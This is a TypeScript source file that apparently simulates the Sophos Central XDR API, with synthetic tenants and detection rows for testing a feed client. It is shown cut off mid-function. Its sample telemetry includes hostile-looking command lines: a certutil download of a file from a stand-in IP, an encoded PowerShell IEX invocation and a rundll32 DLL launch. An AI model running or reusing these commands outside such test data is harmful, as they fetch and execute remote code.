import { randomBytes } from "node:crypto";
import type { IncomingMessage, ServerResponse } from "node:http";
import { z } from "zod";
import { Prng } from "../o365-audit/simulator/records.js";
import type { SimulatorRoute, SimulatorRouteContext } from "../../simulator/server.js";
import { iocQueryTemplate, MAX_RESULT_PAGE_SIZE, RUNS_PATH } from "./client.js";
import { json, readRequestBody, SlidingQuota } from "../../simulator/http.js";

/**
 * Sophos Central as the XDR feed meets it, for the simulator: Sophos ID's token endpoint, whoami, the partner and
 * organization tenant lists, and each tenant's Data Lake query runs. The facts (paths, headers, bodies, errors)
 * are those client.ts cites; everything is served from the simulator's one origin, so a tenant's apiHost is
 * `{origin}/regions/{region}` and its region is part of each query's path.
 *
 * Not from any documentation, and chosen here: the per-tenant quota that answers 429 (Sophos's limits are not
 * published where we looked), the answer to an expired run (404), to results of a run not finished (400), the
 * error codes of a refused token other than a wrong secret, the default page sizes, a `from` past the Data Lake's
 * 30 days refused as a 400, and that a run's [from, to] selects rows by `calendar_time` among those already in the
 * Data Lake when the run was submitted.
 *
 * Mounted as any feed's route: `const xdr = sophosXdrRoute({ directory: defaultSophosDirectory(), rows: generateXdrRows(…) })`,
 * `startSimulator({ …, routes: [xdr.route] })`; a SophosClient then takes the simulator's origin as its idBaseUrl and
 * globalBaseUrl, and trusts that origin (`trust: { origin }`) for the apiHosts it is given.
 */

/** A tenant of the simulated Sophos Central. */
export interface SimulatedSophosTenant {
  /** Lower-case UUID. */
  id: string;
  name: string;
  /** Its data region (eu01, us03): its apiHost is `{origin}/regions/{region}`. */
  region: string;
  /** False: the tenant list shows it without an apiHost (not provisioned in its region yet) and its region refuses it. */
  apiHost?: boolean;
}

/** An API credential of the simulated Sophos Central and the tenants it reaches. */
export interface SimulatedSophosCredential {
  clientId: string;
  clientSecret: string;
  idType: "tenant" | "partner" | "organization";
  /** What whoami answers: the tenant's own id for a tenant credential, else the partner's or organization's. */
  id: string;
  /** One for a tenant credential. */
  tenants: SimulatedSophosTenant[];
}

/**
 * The demo's and the tests' Sophos Central: a tenant credential of one tenant (eu01), and a partner credential of
 * four customers in two data regions (eu01, us03), one of them listed without an apiHost.
 */
export function defaultSophosDirectory(): SimulatedSophosCredential[] {
  const contoso: SimulatedSophosTenant = { id: "3f6d2a1e-8c4b-4e2f-9a7d-1b5c6e8f0a21", name: "Contoso Ltd", region: "eu01" };
  return [
    {
      clientId: "6b1f0c2e-4d3a-4b8e-9f1c-2a7d5e9b3c40",
      clientSecret: "sim-tenant-secret-4f7a9c2e1b",
      idType: "tenant",
      id: contoso.id,
      tenants: [contoso],
    },
    {
      clientId: "9d4e7a1b-2c6f-4a3d-8e5b-7f0c1d2e3a59",
      clientSecret: "sim-partner-secret-8e2d5b7a3c",
      idType: "partner",
      id: "c2a7e5d1-9b3f-4c8e-a1d6-5e7f9b0c2d61",
      tenants: [
        { id: "a1b2c3d4-1111-4a2b-8c3d-0e1f2a3b4c01", name: "Fabrikam Inc", region: "eu01" },
        { id: "a1b2c3d4-2222-4a2b-8c3d-0e1f2a3b4c02", name: "Northwind Traders", region: "us03" },
        { id: "a1b2c3d4-3333-4a2b-8c3d-0e1f2a3b4c03", name: "Tailspin Toys", region: "us03", apiHost: false },
        { id: "a1b2c3d4-4444-4a2b-8c3d-0e1f2a3b4c04", name: "Adatum Corporation", region: "eu01" },
      ],
    },
  ];
}

// ---------------------------------------------------------------------------------------------------
// Rows of xdr_ioc_view

/** One row of a tenant's Data Lake, with when it became queryable. */
export interface SimulatedXdrRow {
  tenantId: string;
  row: Record<string, unknown>;
  /** The row's calendar_time, which a run's [from, to] selects on. */
  calendarTime: number;
  /** ioc_created_at: the detection is in the Data Lake from then on (minutes later for a late row). */
  visibleAt: number;
  /** ioc_detection_weight, which the feed's query filters on. */
  weight: number;
}

export interface XdrRowOptions {
  tenantIds: string[];
  /** Rows have calendar_time in [from, to). */
  from: number;
  to: number;
  /** Mean time between two detections of one tenant. */
  detectionIntervalMs: number;
  seed?: number;
  /** Share of rows ingested only lateDelayMs after their calendar_time (an endpoint that was offline). */
  lateRate?: number;
  lateDelayMs?: number;
}

interface Endpoint {
  hostname: string;
  endpointId: string;
  hostIdentifier: string;
  ip: string;
  mac: string;
  publicIp: string;
  geo: (typeof PLACES)[number];
  os: (typeof WINDOWS)[number];
  type: "computer" | "server";
  username: string;
}

const PLACES = [
  { country: "France", code: "FR", state: "Île-de-France", city: "Paris", postal: "75002", lat: 48.8682, lon: 2.3429 },
  { country: "United Kingdom", code: "GB", state: "England", city: "London", postal: "EC2A", lat: 51.5226, lon: -0.0843 },
  { country: "Germany", code: "DE", state: "Bavaria", city: "Munich", postal: "80331", lat: 48.1371, lon: 11.5754 },
  { country: "United States", code: "US", state: "Illinois", city: "Chicago", postal: "60601", lat: 41.8853, lon: -87.6216 },
] as const;

const WINDOWS = [
  { name: "Microsoft Windows 11 Pro", version: "10.0.22631" },
  { name: "Microsoft Windows 10 Enterprise", version: "10.0.19045" },
  { name: "Microsoft Windows Server 2022 Standard", version: "10.0.20348" },
] as const;

const USERS = ["jdoe", "asmith", "mgarcia", "lkim", "tnguyen", "pmuller", "rrossi", "odubois"];
const TRIED_NAMES = ["admin", "administrator", "test", "user", "guest", "backup", "sql", "scanner", "support", "root", "oracle", "ftp", "demo", "sa", "operator", "service", "web", "reception", "office", "manager", "it"];

function fleet(prng: Prng, index: number): Endpoint[] {
  const place = PLACES[index % PLACES.length] as (typeof PLACES)[number];
  const prefix = ["CTS", "FAB", "NWT", "TST", "ADT", "LIT"][index % 6] as string;
  const publicIp = `203.0.113.${prng.int(1, 254)}`;
  return Array.from({ length: 5 }, (_, n) => {
    const server = n === 0;
    const os = server ? WINDOWS[2] : (prng.pick([WINDOWS[0], WINDOWS[1]]) as (typeof WINDOWS)[number]);
    return {
      hostname: server ? `${prefix}-DC01` : `${prefix}-WS-${String(prng.int(100, 999))}`,
      endpointId: prng.uuid(),
      hostIdentifier: prng.uuid().toUpperCase(),
      ip: `10.${index + 10}.${prng.int(0, 3)}.${prng.int(10, 250)}`,
      mac: Array.from({ length: 6 }, (_, i) => (i === 0 ? 0 : prng.int(0, 255)).toString(16).padStart(2, "0")).join(":"),
      publicIp,
      geo: place,
      os,
      type: server ? "server" : "computer",
      username: server ? "" : prng.pick(USERS),
    };
  });
}

/** Fisher–Yates on a copy. */
function shuffled<T>(prng: Prng, items: readonly T[]): T[] {
  const copy = [...items];
  for (let i = copy.length - 1; i > 0; i -= 1) {
    const j = prng.int(0, i);
    [copy[i], copy[j]] = [copy[j] as T, copy[i] as T];
  }
  return copy;
}

const hex = (prng: Prng, length: number) => Array.from({ length }, () => prng.int(0, 15).toString(16)).join("");
const iso = (ms: number) => new Date(ms).toISOString();
const seconds = (ms: number) => Math.floor(ms / 1000);
const mitre = (tacticId: string, tactic: string, techniqueId: string, technique: string) =>
  JSON.stringify([
    {
      tactic: {
        id: tacticId,
        name: tactic,
        external_references: [{ external_id: tacticId, source_name: "mitre-attack", url: `https://attack.mitre.org/tactics/${tacticId}` }],
        techniques: [{ id: techniqueId, name: technique, external_references: [{ external_id: techniqueId, source_name: "mitre-attack", url: `https://attack.mitre.org/techniques/${techniqueId.replace(".", "/")}` }] }],
      },
    },
  ]);

/** What one family of query gives: its own columns and the detection's classification. */
interface Detection {
  query: string;
  weight: number;
  columns: Record<string, unknown>;
}

type Family = (prng: Prng, endpoint: Endpoint, at: number) => Detection;

const sigma = (id: string, query: string, reference: string) =>
  JSON.stringify({ id, logsource: { dedup_fields: ["machine_data.name"], product: "windows", platform: "windows", category: query, references: [reference] } });

/** Registry findings of the compliance queries (osquery's registry table): `path`, `key`, `name` are the registry's. */
const vulnerability: Family = (prng, _endpoint, at) => {
  const finding = prng.pick([
    {
      query: "vulnerability_dep",
      id: "COMPLIANCE-DEP-PERMISSIVE",
      text: "DEP is not Admin Opt-out or Always-on.",
      key: "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control",
      name: "SystemStartOptions",
      type: "REG_SZ",
      data: " NOEXECUTE=OPTIN  FVEBOOT=2686976",
      analysis: { dep_opt_out: 0, dep_alwayson: 0, dep_opt_in: 1 },
      weight: 4,
      cvss: "4",
    },
    {
      query: "vulnerability_app_compatibility",
      id: "COMPLIANCE-APP-COMPAT",
      text: "Applications with special compatibility set for an executable.",
      key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\Layers",
      name: "C:\\Program Files\\LegacyERP\\erpclient.exe",
      type: "REG_SZ",
      data: "~ RUNASADMIN WIN7RTM",
      analysis: { os_compatibility_target: "WIN7RTM" },
      weight: 2,
      cvss: "2.1",
    },
    {
      query: "vulnerability_smb1",
      id: "COMPLIANCE-SMB1-ENABLED",
      text: "SMBv1 server support is enabled.",
      key: "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters",
      name: "SMB1",
      type: "REG_DWORD",
      data: "1",
      analysis: { smb1_enabled: 1 },
      weight: 6,
      cvss: "8.1",
    },
  ]);
  const reference = `https://support.sophos.com/compliance/${finding.id.toLowerCase()}`;
  return {
    query: finding.query,
    weight: finding.weight,
    columns: {
      path: `${finding.key}\\${finding.name}`,
      key: finding.key,
      name: finding.name,
      type: finding.type,
      data: finding.data,
      mtime: seconds(at) - prng.int(86_400, 90 * 86_400),
      analysis: JSON.stringify(finding.analysis),
      ioc_detection_id: finding.id,
      ioc_detection_description: finding.text,
      ioc_detection_cvss: finding.cvss,
      ioc_detection_access: JSON.stringify({ authentication: "None", complexity: "Low", vector: "Local" }),
      ioc_detection_impact: JSON.stringify({ availability: "Partial", confidentiality: "Partial", integrity: "Partial" }),
      ioc_detection_sigma: sigma(finding.id, finding.query, reference),
      ioc_detection_references: JSON.stringify([reference]),
      ioc_detection_mitre_attack: "[]",
      ioc_detection_licenses: JSON.stringify(["XDR"]),
      ioc_detection_type: "Vulnerability",
      ioc_detection_category: "Vulnerability",
      ioc_detection_attack: "Exposure",
      ioc_attack_type: "Exposure",
      ioc_worker_id: "direct_mapping_worker",
      ioc_worker_name: "Direct Mapping Worker",
      ioc_severity: finding.weight,
    },
  };
};

/** Windows 4625 failures summarized by the Security Event Service: one source address trying many user names. */
const bruteForce: Family = (prng, endpoint, at) => {
  const names = shuffled(prng, TRIED_NAMES).slice(0, prng.int(20, TRIED_NAMES.length));
  const first = seconds(at) - prng.int(120, 900);
  return {
    query: "windows_event_invalid_logon_brute_force",
    weight: 5,
    columns: {
      eventid: 4625,
      provider_name: "Microsoft-Windows-Security-Auditing",
      source: "Security",
      description: `Source IP is shuffling through ${names.length} different usernames, appears to be a brute force attack`,
      username_list: names.join(","),
      event_timestamps: [first, first + prng.int(30, 110)].join(","),
      remote_address: `198.51.100.${prng.int(1, 254)}`,
      remote_port: 0,
      logon_type: 3,
      authentication_package: "NTLM",
      logon_process: "NtLmSsp ",
      status: "0xc000006d",
      sub_status: "0xc0000064",
      failure_reason: "%%2313",
      subject_username: "-",
      subject_domain: "-",
      target_domain: "",
      workstation_name: "-",
      key_length: 0,
      transmitted_services: "-",
      name: "-",
      ioc_detection_id: "EVENT-4625-Brute-Force-Attempt",
      ioc_detection_description: "Windows Event Brute Force Attempt Detected.",
      ioc_detection_sigma: sigma("EVENT-Brute-Force-Attempt", "windows_event", "https://learn.microsoft.com/windows/security/threat-protection/auditing/event-4625"),
      ioc_detection_references: JSON.stringify(["https://learn.microsoft.com/windows/security/threat-protection/auditing/event-4625"]),
      ioc_detection_mitre_attack: mitre("TA0006", "Credential Access", "T1110.003", "Password Spraying"),
      ioc_detection_licenses: JSON.stringify(["MTR", "XDR"]),
      ioc_detection_type: "Threat",
      ioc_detection_category: "Threat",
      ioc_detection_attack: "Suspicious Activity",
      ioc_attack_type: "Suspicious Activity",
      ioc_worker_id: "direct_mapping_worker",
      ioc_worker_name: "Direct Mapping Worker",
      ioc_severity: 5,
      meta_username: endpoint.username,
    },
  };
};

/** Windows user-account changes (4720 created, 4738 changed, 4740 locked out), as the Security Event Service raises them. */
const userAccount: Family = (prng, endpoint, _at) => {
  const event = prng.pick([
    { eventid: 4720, query: "windows_event_user_account_created", text: "A user account was created.", title: "Windows Event User Account Created.", weight: 5 },
    { eventid: 4738, query: "windows_event_user_account_changed", text: "A User Account was changed", title: "Windows Event User Account Changed.", weight: 4 },
    { eventid: 4740, query: "windows_query_event", text: "A user account was locked out.", title: "Windows Event User Account Locked Out.", weight: 5 },
  ]);
  const target = prng.pick([...USERS, "Administrator", "svc-backup"]);
  const reference = `https://learn.microsoft.com/windows/security/threat-protection/auditing/event-${event.eventid}`;
  return {
    query: event.query,
    weight: event.weight,
    columns: {
      eventid: event.eventid,
      provider_name: "Microsoft-Windows-Security-Auditing",
      source: "Security",
      description: event.text,
      subject_username: endpoint.type === "server" ? `${endpoint.hostname}$` : prng.pick(USERS),
      subject_domain: endpoint.hostname.split("-")[0],
      subject_logon_id: `0x${prng.int(0x3e7, 0xfffff).toString(16)}`,
      target_username: target,
      target_domain: endpoint.hostname.split("-")[0],
      sam_account_name: event.eventid === 4720 ? target : "-",
      display_name: "-",
      user_principal_name: "-",
      home_directory: "-",
      home_path: "-",
      script_path: "-",
      profile_path: "-",
      user_workstations: "-",
      password_last_set: "%%1794",
      account_expires: "%%1794",
      privilege_list: "-",
      uac: "-",
      ...(event.eventid === 4740 ? { target_server: `${endpoint.hostname}.corp.example` } : {}),
      ioc_detection_id: `WIN-EVENT-${event.eventid}`,
      ioc_detection_description: event.title,
      ioc_detection_sigma: sigma(`WIN-EVENT-${event.eventid}`, event.query, reference),
      ioc_detection_references: JSON.stringify([reference]),
      ioc_detection_mitre_attack: event.eventid === 4720 ? mitre("TA0003", "Persistence", "T1136.001", "Local Account") : "[]",
      ioc_detection_licenses: JSON.stringify(["MTR", "XDR"]),
      ioc_detection_type: "Threat",
      ioc_detection_category: "Threat",
      ioc_detection_attack: "Suspicious Activity",
      ioc_attack_type: "Security Event Service Detections",
      ioc_worker_id: "security-event-service",
      ioc_worker_name: "Security Event Service",
      ioc_severity: event.weight,
      meta_username: endpoint.username,
    },
  };
};

const BINARIES = [
  { name: "powershell.exe", path: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", description: "Windows PowerShell", cmd: "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", technique: ["T1059.001", "PowerShell"] },
  { name: "WMIC.exe", path: "C:\\Windows\\System32\\wbem\\WMIC.exe", description: "WMI Commandline Utility", cmd: "wmic /Namespace:\\\\root\\SecurityCenter2 Path AntivirusProduct Get displayName,productState", technique: ["T1047", "Windows Management Instrumentation"] },
  { name: "certutil.exe", path: "C:\\Windows\\System32\\certutil.exe", description: "CertUtil.exe", cmd: "certutil.exe -urlcache -split -f http://192.0.2.15/update.bin C:\\Users\\Public\\update.bin", technique: ["T1105", "Ingress Tool Transfer"] },
  { name: "rundll32.exe", path: "C:\\Windows\\System32\\rundll32.exe", description: "Windows host process (Rundll32)", cmd: "rundll32.exe C:\\Users\\Public\\libcef.dll,Start", technique: ["T1218.011", "Rundll32"] },
] as const;

const PARENTS = [
  { name: "explorer.exe", path: "C:\\Windows\\explorer.exe" },
  { name: "cmd.exe", path: "C:\\Windows\\System32\\cmd.exe" },
  { name: "WINWORD.EXE", path: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" },
] as const;

const signers = (signer: string) => JSON.stringify({ reputationData: { isSigned: 1, signerInfo: [{ isValid: 1, signer, thumbprint: "2724aeb0c497bf5fd732958120d1ae3341cfd252ab1680de03d10503abc666c1" }] } });
const sophosPid = (prng: Prng, pid: number) => `${pid}:${String(prng.int(100_000_000, 999_999_999))}${String(prng.int(100_000_000, 999_999_999))}`;

/** Sophos's running-process query, flagged by its ML enrichment: the row is the process (`name`, `path` are its image). */
const runningProcess: Family = (prng, endpoint, at) => {
  const binary = prng.pick(BINARIES);
  const parent = prng.pick(PARENTS);
  const pid = prng.int(1000, 30_000);
  const parentPid = prng.int(500, 30_000);
  const sha256 = hex(prng, 64);
  const mlScore = prng.int(5, 99);
  const weight = mlScore > 60 ? 6 : 5;
  return {
    query: "running_processes_windows_sophos",
    weight,
    columns: {
      name: binary.name,
      path: binary.path,
      cmdline: binary.cmd,
      pid,
      parent: parentPid,
      parent_name: parent.name,
      parent_path: parent.path,
      parent_cmdline: `"${parent.path}" `,
      username: endpoint.username || "SYSTEM",
      uid: prng.int(1000, 500_000),
      sha256,
      sha1: hex(prng, 40),
      sophos_pid: sophosPid(prng, pid),
      parent_sophos_pid: sophosPid(prng, parentPid),
      time: seconds(at) - prng.int(1, 600),
      file_size: prng.int(60_000, 600_000),
      original_filename: binary.name.toLowerCase(),
      company_name: "Microsoft Corporation",
      file_description: binary.description,
      file_version: "10.0.22621.1 (WinBuild.160101.0800)",
      is_process_file_signed: "1",
      local_rep: prng.int(60, 99),
      local_rep_data: signers("Microsoft Windows"),
      global_rep: -1,
      global_rep_data: JSON.stringify({ expireTime: 0, lookupType: 0, reputation: -1, reputationData: "", sampleRate: 0, version: 1 }),
      ml_score: Math.round(mlScore / 10),
      ml_score_band: "LIKELY_BENIGN",
      ml_score_data: JSON.stringify({ expireTime: 0, peMalwareScore: Math.round(mlScore / 10), pePuaScore: prng.int(0, 20), vdlFlags: 0, version: 2 }),
      pua_score: prng.int(0, 20),
      sha256_reputation_score: 70,
      sha256_reputation_band: "KNOWN_GOOD",
      lolbins_ml_results: { score: mlScore, score_label: mlScore > 60 ? "Suspicious" : "Benign", sha256 },
      ioc_detection_id: "WIN-EXE-ENR-ML-SUSPICIOUS-1",
      ioc_detection_description: `Suspicious command line of a living-off-the-land binary (${binary.name}) scored by Sophos ML.`,
      ioc_detection_sigma: JSON.stringify({ id: "WIN-EXE-ENR-ML-SUSPICIOUS-1.star", logsource: { dedup_fields: ["machine_data.columns.sophosPID", "detection.id"] } }),
      ioc_detection_references: "[]",
      ioc_detection_mitre_attack: mitre("TA0002", "Execution", binary.technique[0], binary.technique[1]),
      ioc_detection_licenses: JSON.stringify(["MTR"]),
      ioc_detection_type: "process",
      ioc_detection_category: "Threat",
      ioc_detection_attack: "Execution",
      ioc_attack_type: "Execution",
      ioc_worker_id: "security-event-service",
      ioc_worker_name: "Security Event Service",
      ioc_severity: weight,
      meta_username: endpoint.username,
    },
  };
};

const RUNTIME = [
  { id: "WIN-DET-T1547.009", title: "Shortcut Modification", tactic: ["TA0003", "Persistence"], technique: "T1547.009", event: "FileCreate", path: "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk", weight: 6 },
  { id: "WIN-DET-T1003.001", title: "LSASS Memory", tactic: ["TA0006", "Credential Access"], technique: "T1003.001", event: "ProcessAccess", path: "C:\\Windows\\System32\\lsass.exe", weight: 8 },
  { id: "WIN-DET-T1053.005", title: "Scheduled Task", tactic: ["TA0002", "Execution"], technique: "T1053.005", event: "ProcessCreate", path: "C:\\Windows\\System32\\Tasks\\OneDriveSync", weight: 7 },
] as const;

/** Sophos's runtime IOCs (behavioural detections on the endpoint): the process has `process_*` columns of its own. */
const runtimeIoc: Family = (prng, endpoint, at) => {
  const ioc = prng.pick(RUNTIME);
  const binary = prng.pick(BINARIES);
  const parent = prng.pick(PARENTS);
  const pid = prng.int(1000, 30_000);
  const sha256 = hex(prng, 64);
  const user = endpoint.username || "svc-backup";
  const eventTime = at - prng.int(0, 60_000);
  return {
    query: "sophos_runtime_iocs_windows",
    weight: ioc.weight,
    columns: {
      process_name: binary.name,
      process_path: binary.path,
      process_cmd_line: binary.cmd,
      process_cmd_line_truncated: 0,
      process_sha256: sha256,
      process_file_size: prng.int(60_000, 600_000),
      process_parent_name: parent.name,
      process_parent_sophos_pid: sophosPid(prng, prng.int(500, 30_000)),
      sophos_pid: sophosPid(prng, pid),
      process_local_rep_signers: signers("Microsoft Corporation"),
      process_ml_score: prng.int(1, 9),
      process_ml_score_band: "LIKELY_BENIGN",
      process_pua_score: prng.int(0, 20),
      process_global_rep: -1,
      process_sha256_reputation_score: 70,
      process_sha256_reputation_band: "KNOWN_GOOD",
      ioc_event_path: ioc.path.replace("{user}", user),
      ioc_event_time: iso(Math.floor(eventTime / 1000) * 1000),
      ioc_event_threat_source: "Behavioral",
      ioc_event_ttp_summary: `${ioc.tactic[0]}-${ioc.technique}`,
      ioc_event_username: "",
      ioc_event_sid: "",
      ioc_event_sophos_tid: "",
      event_count: 1,
      ioc_event_events: JSON.stringify([{ type: ioc.event, win32Path: binary.path, cmdline: binary.cmd, spid: { "!spid": `[${sophosPid(prng, pid)}]` }, sha256: { "!sha256": sha256 }, rep: prng.int(1, 9) }]),
      ioc_detection_id: ioc.id,
      ioc_detection_description: `${ioc.title} detected by runtime behaviour.`,
      ioc_detection_sigma: JSON.stringify({ id: `${ioc.id}.star`, logsource: { dedup_fields: ["machine_data.columns.sophosPID", "detection.id"] } }),
      ioc_detection_references: "[]",
      ioc_detection_mitre_attack: mitre(ioc.tactic[0], ioc.tactic[1], ioc.technique, ioc.title),
      ioc_detection_licenses: JSON.stringify(["MTR", "XDR"]),
      ioc_detection_type: "Threat",
      ioc_detection_category: "Threat",
      ioc_detection_attack: "Suspicious Activity",
      ioc_attack_type: "Suspicious Activity",
      ioc_worker_id: "direct_mapping_worker",
      ioc_worker_name: "Direct Mapping Worker",
      ioc_severity: ioc.weight,
      meta_username: endpoint.username,
    },
  };
};

/** Each family's share of the detections, heaviest first. */
const FAMILIES: readonly [Family, number][] = [
  [vulnerability, 0.3],
  [userAccount, 0.2],
  [runningProcess, 0.2],
  [bruteForce, 0.15],
  [runtimeIoc, 0.15],
];

function pickFamily(prng: Prng): Family {
  let roll = prng.next();
  for (const [family, share] of FAMILIES) {
    if (roll < share) return family;
    roll -= share;
  }
  return (FAMILIES[FAMILIES.length - 1] as [Family, number])[0];
}

/**
 * Realistic `xdr_ioc_view` rows per tenant: a small fleet of Windows endpoints (one server), detections of the
 * query families Sekoia's samples show (registry compliance findings, brute-force logons, user-account changes,
 * ML-flagged running processes, runtime IOCs), each with a unique record_identifier, its calendar_time, the
 * ingestion a few seconds to minutes later (or lateDelayMs later for a late row), and weights 2 to 8.
 * The same options and seed give the same rows.
 */
export function generateXdrRows(options: XdrRowOptions): SimulatedXdrRow[] {
  const prng = new Prng(options.seed ?? 11);
  const rows: SimulatedXdrRow[] = [];
  options.tenantIds.forEach((tenantId, index) => {
    const endpoints = fleet(prng, index);
    const interval = options.detectionIntervalMs;
    for (let at = options.from + prng.int(0, interval); at < options.to; at += prng.int(1, 2 * interval)) {
      const calendar = Math.floor(at / 1000) * 1000;
      const endpoint = prng.pick(endpoints);
      const detection = pickFamily(prng)(prng, endpoint, calendar);
      const late = prng.chance(options.lateRate ?? 0);
      const ingested = calendar + (late ? (options.lateDelayMs ?? 2 * 3_600_000) : prng.int(5_000, 180_000));
      const created = ingested + prng.int(500, 60_000);
      const recordIdentifier = hex(prng, 64);
      const dedup = hex(prng, 40);
      rows.push({
        tenantId,
        calendarTime: calendar,
        visibleAt: created,
        weight: detection.weight,
        row: {
          record_identifier: recordIdentifier,
          detection_identifier: `${recordIdentifier}_${dedup}`,
          detection_id_dedup: dedup,
          message_identifier: hex(prng, 32),
          customer_id: tenantId,
          endpoint_id: endpoint.endpointId,
          meta_eid: endpoint.endpointId,
          host_identifier: endpoint.hostIdentifier,
          meta_hostname: endpoint.hostname,
          meta_ip_address: endpoint.ip,
          meta_ip_mask: "255.255.252.0",
          meta_mac_address: endpoint.mac,
          meta_public_ip: endpoint.publicIp,
          meta_public_ip_country: endpoint.geo.country,
          meta_public_ip_country_code: endpoint.geo.code,
          meta_public_ip_state: endpoint.geo.state,
          meta_public_ip_city: endpoint.geo.city,
          meta_public_ip_postal: endpoint.geo.postal,
          meta_public_ip_latitude: endpoint.geo.lat,
          meta_public_ip_longitude: endpoint.geo.lon,
          meta_os_name: endpoint.os.name,
          meta_os_platform: "windows",
          meta_os_version: endpoint.os.version,
          meta_os_type: "",
          meta_endpoint_type: endpoint.type,
          meta_domain_controller: endpoint.type === "server" ? "True" : "False",
          meta_aggressive_activity: "False",
          meta_boot_time: seconds(calendar) - prng.int(3_600, 30 * 86_400),
          meta_licence: "",
          meta_query_pack_version: "1.21.26",
          query_name: detection.query,
          query_source: "xdr_only",
          osquery_action: "added",
          calendar_time: iso(calendar),
          unix_time: iso(calendar),
          ioc_unix_time: iso(calendar),
          epoch: seconds(calendar) - prng.int(0, 3 * 86_400),
          counter: prng.int(0, 2000),
          numerics: false,
          folded: 0,
          upload_size: prng.int(900, 4500),
          schema_version: "24",
          partition_bucket: String(prng.int(0, 99)),
          ingestion_timestamp: iso(ingested),
          ingest_date: iso(ingested).slice(0, 10),
          ioc_created_at: iso(created),
          ioc_log_type: "summary",
          ioc_detection_experiment_level: 0,
          ioc_detection_weight: detection.weight,
          ...detection.columns,
        },
      });
    }
  });
  return rows;
}

/** What a perfect run of tenant submitted at `at` returns: rows in the Data Lake then, time in [from, to], weight above threshold. */
export function rowsOfRun(rows: readonly SimulatedXdrRow[], tenantId: string, run: { from: number; to: number; threshold: number }, at: number): SimulatedXdrRow[] {
  return rows
    .filter((r) => r.tenantId === tenantId && r.visibleAt <= at && r.calendarTime >= run.from && r.calendarTime <= run.to && r.weight > run.threshold)
    .sort((a, b) => b.calendarTime - a.calendarTime || (a.row.record_identifier as string).localeCompare(b.row.record_identifier as string));
}

// ---------------------------------------------------------------------------------------------------
// The route

export interface SophosXdrRouteOptions {
  directory: SimulatedSophosCredential[];
  rows: SimulatedXdrRow[];
  /** The data clock: what is in the Data Lake, "now" for a run's window, token and run lifetimes. */
  now?: () => number;
  /** The clock of the per-tenant quota's sliding window (monotonic; a test's gate clock, so both agree). */
  quotaClock?: () => number;
  /** Requests a tenant's Data Lake accepts per window before answering 429 (default 60 a minute). */
  quota?: { requests: number; windowMs: number };
  /** Share of a tenant's Data Lake requests answered 429 with a Retry-After of retryAfterSeconds, whatever the quota. */
  throttleRate?: number;
  retryAfterSeconds?: number;
  /** Share answered 503. */
  serverErrorRate?: number;
  /** Share of runs that finish with result `failed`. */
  failRate?: number;
  /** Share of runs gone (404) as soon as they have finished, as if their two hours had passed. */
  expireRate?: number;
  /** Status polls a run answers `started` before `finished`, drawn in [min, max] (default [1, 3]). */
  runningPolls?: [number, number];
  /** Data-clock time a run also needs before it finishes (default 0). */
  runDurationMs?: number;
  /** Tenants of a partner or organization per page (default 50). */
  tenantPageSize?: number;
  /** Rows per result page when the request names none (default 200). */
  defaultResultPageSize?: number;
  tokenLifetimeSeconds?: number;
  seed?: number;
}

export interface SophosXdrRouteStats {
  tokenRequests: number;
  tokensIssued: number;
  /** Requests to whoami and the tenant lists. */
  globalRequests: number;
  /** Requests to a tenant's Data Lake, answered any way. */
  requests: number;
  requestsByTenant: Record<string, number>;
  /** Answered 429, by the quota or the throttleRate fault. */
  throttled: number;
  /** Of those, the ones past the tenant's quota: a client keeping its budget sends none. */
  overQuota: number;
  serverErrors: number;
  runsSubmitted: number;
  runsFailed: number;
  /** Runs answered 404 because they had expired (each counted once). */
  runsExpired: number;
  /** Requests that arrived while their tenant was inside a Retry-After this route sent. */
  earlyRequests: number;
  earlyRequestsByTenant: Record<string, number>;
}

export interface SimulatedRun {
  id: string;
  tenantId: string;
  clientId: string;
  from: number;
  to: number;
  threshold: number;
  createdAt: number;
  expiresAt: number;
  /** Polls to answer `started` before `finished`. */
  runningPolls: number;
  polls: number;
  finishedAt: number | undefined;
  result: "succeeded" | "failed";
  /** Gone once finished (the expireRate fault). */
  expiresOnFinish: boolean;
  expiredCounted: boolean;
  rows: SimulatedXdrRow[];
}

export interface SophosXdrRoute {
  route: SimulatorRoute;
  stats: SophosXdrRouteStats;
  /** Every run submitted, by id. */
  runs: Map<string, SimulatedRun>;
}

const RUN_LIFETIME_MS = 2 * 3_600_000;
/** The Data Lake's reach (news.sophos.com, 2021-09-20: "up to 30 days of data"). */
const DATA_LAKE_DAYS_MS = 30 * 24 * 3_600_000;
const DEFAULT_QUOTA = { requests: 60, windowMs: 60_000 };
const MAX_TENANT_PAGE_SIZE = 100;

const runBodySchema = z.object({
  adHocQuery: z.object({ template: z.string() }),
  from: z.iso.datetime({ offset: true }),
  to: z.iso.datetime({ offset: true }),
});

const TEMPLATE = /^SELECT \* FROM xdr_ioc_view WHERE ioc_detection_weight > (\d+)$/;
/** A tenant's query path under its region's prefix: the region, the run id, whether its results. */
const TENANT_PATH = new RegExp(`^/regions/([a-z0-9]+)${RUNS_PATH}(?:/([A-Za-z0-9-]+)(/results)?)?$`);

export function sophosXdrRoute(options: SophosXdrRouteOptions): SophosXdrRoute {
  const now = options.now ?? Date.now;
  const quota = new SlidingQuota(options.quota ?? DEFAULT_QUOTA, options.quotaClock);
  const prng = new Prng(options.seed ?? 0x50f05);
  const byClient = new Map(options.directory.map((c) => [c.clientId, c]));
  const tokens = new Map<string, { clientId: string; expiresAt: number }>();
  const runs = new Map<string, SimulatedRun>();
  const stats: SophosXdrRouteStats = {
    tokenRequests: 0,
    tokensIssued: 0,
    globalRequests: 0,
    requests: 0,
    requestsByTenant: {},
    throttled: 0,
    overQuota: 0,
    serverErrors: 0,
    runsSubmitted: 0,
    runsFailed: 0,
    runsExpired: 0,
    earlyRequests: 0,
    earlyRequestsByTenant: {},
  };

  const credentialOf = (req: IncomingMessage): SimulatedSophosCredential | undefined => {
    const token = tokens.get((req.headers.authorization ?? "").replace(/^Bearer /i, ""));
    return token && now() < token.expiresAt ? byClient.get(token.clientId) : undefined;
  };

